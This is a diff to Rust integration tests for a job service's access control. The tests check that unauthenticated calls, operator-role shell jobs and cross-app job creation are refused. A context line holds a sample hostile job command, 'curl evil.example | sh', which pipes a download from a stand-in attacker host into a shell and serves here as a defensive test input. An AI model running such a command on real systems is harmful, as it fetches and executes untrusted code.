@@ -65,10 +65,7 @@ async fn nothing_is_served_without_a_valid_token() -> anyhow::Result<()> {
             ErrorCode::Unauthorized
         );
         let shell = shell_job("app", "evil", "curl evil.example | sh");
-        assert_eq!(
-            code(client.call(&JobCreate { spec: shell }).await),
-            ErrorCode::Unauthorized
-        );
+        assert_eq!(code(client.call(&shell).await), ErrorCode::Unauthorized);
         assert_eq!(
             code(client.call(&TokenList {}).await),
             ErrorCode::Unauthorized
@@ -144,7 +141,7 @@ async fn roles_and_app_scopes_are_enforced() -> anyhow::Result<()> {
         .await?
         .items
         .into_iter()
-        .map(|j| j.spec.app)
+        .map(|j| j.app)
         .collect();
     assert_eq!(listed, vec!["a".to_owned()]);
     assert_eq!(
@@ -210,13 +207,7 @@ async fn roles_and_app_scopes_are_enforced() -> anyhow::Result<()> {
     );
     // Defining jobs (a shell job among them) needs the admin role.
     assert_eq!(
-        code(
-            operator
-                .call(&JobCreate {
-                    spec: shell_job("a", "new", "echo")
-                })
-                .await
-        ),
+        code(operator.call(&shell_job("a", "new", "echo")).await),
         ErrorCode::Forbidden
     );
 
@@ -224,19 +215,9 @@ async fn roles_and_app_scopes_are_enforced() -> anyhow::Result<()> {
     let admin_a = d
         .client_with(&d.token(Role::Admin, Some("a")).await?)
         .await?;
-    admin_a
-        .call(&JobCreate {
-            spec: shell_job("a", "new", "echo"),
-        })
-        .await?;
+    admin_a.call(&shell_job("a", "new", "echo")).await?;
     assert_eq!(
-        code(
-            admin_a
-                .call(&JobCreate {
-                    spec: shell_job("b", "new", "echo")
-                })
-                .await
-        ),
+        code(admin_a.call(&shell_job("b", "new", "echo")).await),
         ErrorCode::Forbidden
     );
     assert_eq!(
